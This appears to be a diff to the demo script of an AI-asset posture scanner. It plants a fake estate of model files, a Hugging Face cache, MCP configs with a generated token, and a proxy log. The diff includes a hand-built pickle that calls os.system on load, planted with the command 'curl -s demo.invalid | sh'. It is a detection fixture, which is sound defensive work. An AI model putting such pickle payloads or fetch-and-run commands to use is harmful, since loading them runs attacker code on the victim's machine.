@@ -12,6 +12,7 @@ of real keys (so detectors treat them as live); they are valid for nothing.
 from __future__ import annotations
 
 import argparse
+import hashlib
 import json
 import secrets
 import string
@@ -56,6 +57,17 @@ class Estate:
     applications: set[str] = field(default_factory=set)
     notebooks: set[str] = field(default_factory=set)
     non_ai_files: list[Path] = field(default_factory=list)
+    #: Model files by name, and the ones whose loading would run code.
+    model_files: set[str] = field(default_factory=set)
+    unsafe_model_files: set[str] = field(default_factory=set)
+    #: Hugging Face models in the planted hub cache (repo ids).
+    hub_models: set[str] = field(default_factory=set)
+    #: Proxy logs, and the catalogue ids of the AI services they show (sanctioned or not).
+    logs: list[Path] = field(default_factory=list)
+    logged_services: set[str] = field(default_factory=set)
+    shadow_services: set[str] = field(default_factory=set)
+    #: Services the demo's configuration sanctions.
+    sanctioned: tuple[str, ...] = ("openai", "anthropic")
 
 
 def _write(path: Path, text: str) -> Path:
@@ -302,7 +314,166 @@ def build_estate(root: Path) -> Estate:
         _write(root / "billing" / "requirements.txt", "requests==2.32.3\nboto3==1.35.0\n"),
         _write(root / "billing" / "README.md", "# Billing\nComputes invoices every night.\n"),
     ]
+    _plant_model_files(root, est)
+    _plant_hub_cache(root, est)
+    _plant_mcp_configs(root, est)
+    _plant_proxy_log(root.parent / "logs", est)
     return est
+
+
+def safetensors_bytes(tensors: dict[str, tuple[str, list[int]]]) -> bytes:
+    """A valid safetensors file of zero-filled tensors (``name -> (dtype, shape)``)."""
+    sizes = {"F32": 4, "F16": 2, "BF16": 2, "I64": 8}
+    header: dict[str, object] = {"__metadata__": {"format": "pt"}}
+    offset = 0
+    for name, (dtype, shape) in tensors.items():
+        n = sizes[dtype]
+        for dim in shape:
+            n *= dim
+        header[name] = {"dtype": dtype, "shape": shape, "data_offsets": [offset, offset + n]}
+        offset += n
+    raw = json.dumps(header, separators=(",", ":")).encode()
+    raw += b" " * (-len(raw) % 8)
+    return len(raw).to_bytes(8, "little") + raw + bytes(offset)
+
+
+def malicious_pickle(command: str) -> bytes:
+    """A protocol-2 pickle whose loading would call ``os.system(command)``.
+
+    Written opcode by opcode; nothing is pickled, and aiposture never loads it.
+    """
+    arg = command.encode()
+    return (
+        b"\x80\x02"  # PROTO 2
+        + b"cposix\nsystem\n"  # GLOBAL posix.system (what os.system pickles as)
+        + b"X"  # BINUNICODE
+        + len(arg).to_bytes(4, "little")
+        + arg
+        + b"\x85"  # TUPLE1
+        + b"R"  # REDUCE: call it
+        + b"."  # STOP
+    )
+
+
+def _plant_model_files(root: Path, est: Estate) -> None:
+    models = root / "fraud-model" / "artifacts"
+    models.mkdir(parents=True, exist_ok=True)
+    # Someone shared a "model" on a chat channel; loading it runs a shell command.
+    (models / "fraud_xgb_v2.pkl").write_bytes(malicious_pickle("curl -s demo.invalid | sh"))
+    (models / "fraud_head.safetensors").write_bytes(
+        safetensors_bytes({"dense.weight": ("F32", [16, 8]), "dense.bias": ("F32", [16])})
+    )
+    est.model_files |= {"fraud_xgb_v2.pkl", "fraud_head.safetensors"}
+    est.unsafe_model_files.add("fraud_xgb_v2.pkl")
+
+
+def _plant_hub_cache(root: Path, est: Estate) -> None:
+    hub = root / "research" / ".cache" / "huggingface" / "hub"
+    repos = {
+        "sentence-transformers/all-MiniLM-L6-v2": (
+            "apache-2.0",
+            ["sentence-transformers/embedding-training-data"],
+            {"architectures": ["BertModel"], "model_type": "bert", "hidden_size": 384},
+        ),
+        "meta-llama/Llama-3.2-1B-Instruct": (
+            "llama3.2",
+            [],
+            {"architectures": ["LlamaForCausalLM"], "model_type": "llama", "hidden_size": 2048},
+        ),
+    }
+    for n, (repo, (licence, datasets, config)) in enumerate(sorted(repos.items())):
+        folder = hub / ("models--" + repo.replace("/", "--"))
+        commit = f"{n + 1:x}" * 40
+        snapshot = folder / "snapshots" / commit
+        blobs = folder / "blobs"
+        blobs.mkdir(parents=True, exist_ok=True)
+        snapshot.mkdir(parents=True, exist_ok=True)
+        _write(folder / "refs" / "main", commit)
+        card = ["---", f"license: {licence}"]
+        if datasets:
+            card += ["datasets:", *(f"- {d}" for d in datasets)]
+        card += ["library_name: transformers", "---", "", f"# {repo.split('/')[1]}", ""]
+        files = {
+            "config.json": json.dumps(config, indent=2).encode(),
+            "README.md": "\n".join(card).encode(),
+            "model.safetensors": safetensors_bytes({"embeddings.weight": ("F16", [64, 8])}),
+        }
+        for name, data in files.items():
+            blob = blobs / hashlib.sha256(data).hexdigest()
+            blob.write_bytes(data)
+            (snapshot / name).symlink_to(Path("..", "..", "blobs", blob.name))
+        est.hub_models.add(repo)
+    est.model_files.add("model.safetensors")
+
+
+def _plant_mcp_configs(root: Path, est: Estate) -> None:
+    github_token = f"ghp_{_rand(36)}"
+    est.secrets.append(github_token)
+    # Cursor, project level: a token pasted into the config, an unpinned npx package.
+    _write(
+        root / "claims-triage" / ".cursor" / "mcp.json",
+        f"""
+        {{
+          // added during the hackathon
+          "mcpServers": {{
+            "github": {{
+              "command": "npx",
+              "args": ["-y", "@modelcontextprotocol/server-github"],
+              "env": {{"GITHUB_PERSONAL_ACCESS_TOKEN": "{github_token}"}},
+            }},
+            "claims-tools": {{
+              "command": "python",
+              "args": ["-m", "claims_triage.tools_server"],
+            }},
+          }},
+        }}
+        """,
+    )
+    # VS Code, project level ("servers", not "mcpServers"): a remote server, no auth.
+    _write(
+        root / "support-bot" / ".vscode" / "mcp.json",
+        """
+        {
+          "servers": {
+            "kb-search": {"type": "http", "url": "https://mcp.kb.example.com/mcp"},
+            "github": {
+              "command": "npx",
+              "args": ["-y", "@modelcontextprotocol/server-github@2025.4.8"],
+              "env": {"GITHUB_PERSONAL_ACCESS_TOKEN": "${input:github_token}"}
+            }
+          }
+        }
+        """,
+    )
+    est.mcp_servers |= {"github", "kb-search"}
+
+
+def _plant_proxy_log(folder: Path, est: Estate) -> None:
+    """A Squid access log: sanctioned OpenAI and Anthropic API traffic, and shadow AI."""
+    folder.mkdir(parents=True, exist_ok=True)
+    start = 1_764_000_000
+    rows = [
+        # (seconds after start, client, user, bytes, method, url or host:port)
+        (0, "10.0.4.21", "svc-support-bot", 5120, "CONNECT", "api.openai.com:443"),
+        (60, "10.0.4.21", "svc-support-bot", 4800, "CONNECT", "api.openai.com:443"),
+        (95, "10.0.7.13", "dana", 7700, "CONNECT", "api.anthropic.com:443"),
+        (120, "10.0.9.40", "lee", 182_000, "CONNECT", "chatgpt.com:443"),
+        (180, "10.0.9.40", "lee", 2_400_000, "CONNECT", "chatgpt.com:443"),
+        (240, "10.0.9.41", "sam", 9_100_000, "CONNECT", "api.otter.ai:443"),
+        (300, "10.0.9.42", "kim", 15_000, "CONNECT", "www.deepl.com:443"),
+        (330, "10.0.9.40", "lee", 3_300, "GET", "http://example.org/index.html"),
+        (360, "10.0.9.43", "ash", 64_000, "CONNECT", "eu.api.openai.com:443"),
+    ]
+    lines = [
+        f"{start + t}.{n:03d}    412 {client} TCP_TUNNEL/200 {size} {method} {url} {user} "
+        f"HIER_DIRECT/{'203.0.113.' + str(10 + n)} -"
+        for n, (t, client, user, size, method, url) in enumerate(rows)
+    ]
+    log = folder / "proxy-access.log"
+    log.write_text("\n".join(lines) + "\n", encoding="utf-8")
+    est.logs.append(log)
+    est.logged_services |= {"openai", "anthropic", "chatgpt", "otter", "deepl"}
+    est.shadow_services |= {"chatgpt", "otter", "deepl"}
 
 
 def main(argv: list[str] | None = None) -> int:
@@ -319,16 +490,25 @@ def main(argv: list[str] | None = None) -> int:
     base = args.dir or Path(tempfile.mkdtemp(prefix="aiposture-demo-"))
     estate = build_estate(base / "estate")
     db = f"sqlite:///{base / 'posture.db'}"
+    config = base / "aiposture.toml"
+    config.write_text(
+        "[discovery]\nsanctioned_services = ["
+        + ", ".join(f'"{s}"' for s in estate.sanctioned)
+        + "]\n",
+        encoding="utf-8",
+    )
     console.rule("[bold]aiposture demo")
-    console.print(f"estate: {estate.root}\nstore:  {db}\n")
+    console.print(f"estate: {estate.root}\nstore:  {db}\nconfig: {config}\n")
+    logs = [arg for log in estate.logs for arg in ("--logs", str(log))]
+    scan = ["--config", str(config), "scan", str(estate.root), *logs, "--db", db, "--no-progress"]
 
     steps: list[tuple[str, list[str]]] = [
-        ("1. scan the estate", ["scan", str(estate.root), "--db", db, "--no-progress"]),
+        ("1. scan the estate and the proxy log", scan),
         ("2. the inventory", ["inventory", "--db", db]),
         ("3. findings", ["findings", "--db", db]),
         (
             "4. rescan: unchanged files are skipped",
-            ["scan", str(estate.root), "--db", db, "--no-progress"],
+            scan,
         ),
         ("5. CycloneDX AI-BOM", ["export", "cyclonedx", "-o", str(base / "bom.json"), "--db", db]),
         ("6. audit chain", ["audit", "verify", "--db", db]),
